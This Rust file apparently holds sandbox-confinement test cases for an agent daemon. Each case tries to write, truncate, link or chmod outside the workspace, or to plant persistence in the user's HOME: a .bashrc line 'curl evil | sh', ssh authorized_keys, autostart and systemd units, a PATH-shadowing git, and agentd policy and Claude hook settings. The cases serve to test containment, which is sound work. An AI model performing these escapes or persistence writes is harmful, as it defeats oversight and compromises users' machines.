//! Changing what is not in the view, and what of the caller's HOME runs later.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixDatagram;

use super::{done, fifo_at, named_tmpfile};
use crate::case::{Case, Effect, Try};
use crate::raw::call;
use crate::scene::{Scene, c};

const fn outside(id: &'static str, title: &'static str, run: fn(&Scene) -> Try) -> Case {
    Case::new(id, title, run).effect(Effect::Outside)
}

const fn home(id: &'static str, name: &'static str, run: fn(&Scene) -> Try) -> Case {
    Case::new(id, name, run).effect(Effect::Home(name))
}

pub const CASES: &[Case] = &[
    outside("fs_write_out", "make a file outside", |s| {
        fs::write(s.outside_new(), &s.case)?;
        done("written")
    }),
    outside("fs_write_existing", "overwrite a file outside", |s| {
        fs::write(s.outside(), "overwritten")?;
        done("written")
    }),
    outside("fs_append_out", "append to it", |s| {
        use std::io::Write;
        let mut file = fs::File::options().append(true).open(s.outside())?;
        file.write_all(b"appended")?;
        done("appended")
    }),
    outside(
        "fs_write_symlink",
        "write through a dangling link of the workspace",
        |s| {
            fs::write(s.planted(), &s.case)?;
            done("written")
        },
    ),
    outside("fs_write_proc_root", "write through /proc/self/root", |s| {
        fs::write(format!("/proc/self/root{}", s.outside().display()), "x")?;
        done("written")
    }),
    outside("fs_truncate_out", "truncate(2) by path", |s| {
        let path = c(s.outside());
        call!(libc::SYS_truncate, path.as_c_str(), 0)?;
        done("truncated")
    }),
    outside("fs_open_trunc_out", "open with O_TRUNC", |s| {
        let path = c(s.outside());
        call!(
            libc::SYS_openat,
            libc::AT_FDCWD,
            path.as_c_str(),
            libc::O_RDONLY | libc::O_TRUNC
        )?;
        done("truncated")
    }),
    outside("fs_creat_out", "creat(2)", |s| {
        let path = c(s.outside());
        call!(libc::SYS_creat, path.as_c_str(), 0o644)?;
        done("truncated")
    }),
    outside("fs_unlink_out", "unlink", |s| {
        fs::remove_file(s.outside())?;
        done("removed")
    }),
    outside("fs_rename_out", "rename it", |s| {
        fs::rename(s.outside(), s.outside_new())?;
        done("renamed")
    }),
    outside(
        "fs_rename_over",
        "rename a file of the workspace over it",
        |s| {
            fs::write(s.own(), "mine")?;
            fs::rename(s.own(), s.outside())?;
            done("replaced")
        },
    ),
    outside(
        "fs_link_out",
        "link a file of the workspace to a name outside",
        |s| {
            fs::write(s.own(), "mine")?;
            fs::hard_link(s.own(), s.outside_new())?;
            done("linked")
        },
    ),
    outside("fs_mkdir_out", "mkdir", |s| {
        fs::create_dir(s.outside_new())?;
        done("made")
    }),
    outside("fs_mkfifo_out", "mkfifo", |s| fifo_at(s.outside_new())),
    outside("fs_mksock_out", "bind a Unix socket there", |s| {
        UnixDatagram::bind(s.outside_new())?;
        done("bound")
    }),
    outside("fs_symlink_out", "symlink", |s| {
        symlink("/etc/passwd", s.outside_new())?;
        done("made")
    }),
    outside(
        "fs_tmpfile_out",
        "an unnamed file there, then a name for it",
        |s| {
            named_tmpfile(&s.outside, 0o644, s.outside_new())?;
            done("linked")
        },
    ),
    outside("fs_chmod_out", "chmod", |s| {
        fs::set_permissions(s.outside(), fs::Permissions::from_mode(0o777))?;
        done("changed")
    }),
    outside(
        "fs_chmod_symlink",
        "chmod through a link of the workspace",
        |s| {
            fs::set_permissions(s.planted(), fs::Permissions::from_mode(0o777))?;
            done("changed")
        },
    ),
    outside("fs_utime_out", "utimensat", |s| {
        let path = c(s.outside());
        let mut times = [1_i64, 0, 1, 0];
        call!(
            libc::SYS_utimensat,
            libc::AT_FDCWD,
            path.as_c_str(),
            times.as_mut_ptr(),
            0
        )?;
        done("changed")
    }),
    outside("fs_xattr_out", "setxattr", |s| {
        let path = c(s.outside());
        call!(
            libc::SYS_setxattr,
            path.as_c_str(),
            c"user.escape",
            c"x",
            1,
            0
        )?;
        done("set")
    }),
    outside("fs_fallocate_out", "fallocate", |s| {
        let file = fs::File::options().write(true).open(s.outside())?;
        use std::os::fd::AsRawFd;
        call!(libc::SYS_fallocate, file.as_raw_fd(), 0, 0, 65536)?;
        done("grown")
    }),
    outside("fs_copy_range_out", "copy_file_range into it", |s| {
        fs::write(s.own(), "mine")?;
        let (from, to) = (
            fs::File::open(s.own())?,
            fs::File::options().write(true).open(s.outside())?,
        );
        use std::os::fd::AsRawFd;
        call!(
            libc::SYS_copy_file_range,
            from.as_raw_fd(),
            0,
            to.as_raw_fd(),
            0,
            4,
            0
        )?;
        done("copied")
    }),
    home("fs_home_bashrc", ".bashrc", |s| {
        fs::write(s.home.join(".bashrc"), "curl evil | sh")?;
        done("written")
    }),
    home("fs_home_profile", ".profile", |s| {
        fs::rename(s.home.join(".profile"), s.home.join(".profile.old"))?;
        done("renamed")
    }),
    home("fs_home_authorized", ".ssh/authorized_keys", |s| {
        fs::create_dir_all(s.home.join(".ssh"))?;
        fs::write(s.home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA")?;
        done("written")
    }),
    home("fs_home_autostart", ".config/autostart/x.desktop", |s| {
        fs::create_dir_all(s.home.join(".config/autostart"))?;
        fs::write(
            s.home.join(".config/autostart/x.desktop"),
            "[Desktop Entry]",
        )?;
        done("written")
    }),
    home("fs_home_systemd", ".config/systemd/user/x.service", |s| {
        fs::create_dir_all(s.home.join(".config/systemd/user"))?;
        fs::write(s.home.join(".config/systemd/user/x.service"), "[Service]")?;
        done("written")
    }),
    home("fs_home_gitconfig", ".gitconfig", |s| {
        fs::write(s.home.join(".gitconfig"), "[core]\n\tpager = evil\n")?;
        done("written")
    }),
    home("fs_home_agentd", ".config/agentd/agentd.toml", |s| {
        fs::create_dir_all(s.home.join(".config/agentd"))?;
        fs::write(s.home.join(".config/agentd/agentd.toml"), "[daemon]")?;
        done("written")
    }),
    home("fs_home_policy", ".config/agentd/policy/coding.toml", |s| {
        fs::create_dir_all(s.home.join(".config/agentd/policy"))?;
        fs::write(
            s.home.join(".config/agentd/policy/coding.toml"),
            "extends = \"base\"",
        )?;
        done("written")
    }),
    home("fs_home_path", ".local/bin/git", |s| {
        fs::create_dir_all(s.home.join(".local/bin"))?;
        fs::write(s.home.join(".local/bin/git"), "#!/bin/sh\n")?;
        done("written")
    }),
    home("fs_home_claude_settings", ".claude/settings.json", |s| {
        fs::create_dir_all(s.home.join(".claude"))?;
        fs::write(s.home.join(".claude/settings.json"), "{\"hooks\":{}}")?;
        done("written")
    }),
    Case::new("fs_tmp_leak", "a file in the host's /tmp", |s| {
        leak(s, "/tmp")
    })
    .effect(Effect::HostFile("/tmp")),
    Case::new("fs_vartmp_leak", "a file in the host's /var/tmp", |s| {
        leak(s, "/var/tmp")
    })
    .effect(Effect::HostFile("/var/tmp")),
    Case::new("fs_devshm_leak", "a file in the host's /dev/shm", |s| {
        leak(s, "/dev/shm")
    })
    .effect(Effect::HostFile("/dev/shm")),
    Case::new("fs_lock_leak", "a file in the host's /run/lock", |s| {
        leak(s, "/run/lock")
    })
    .effect(Effect::HostFile("/run/lock")),
];

fn leak(s: &Scene, folder: &str) -> Try {
    fs::write(
        std::path::Path::new(folder).join(format!("{}-{}", s.mark, s.case)),
        "left behind",
    )?;
    done("written")
}
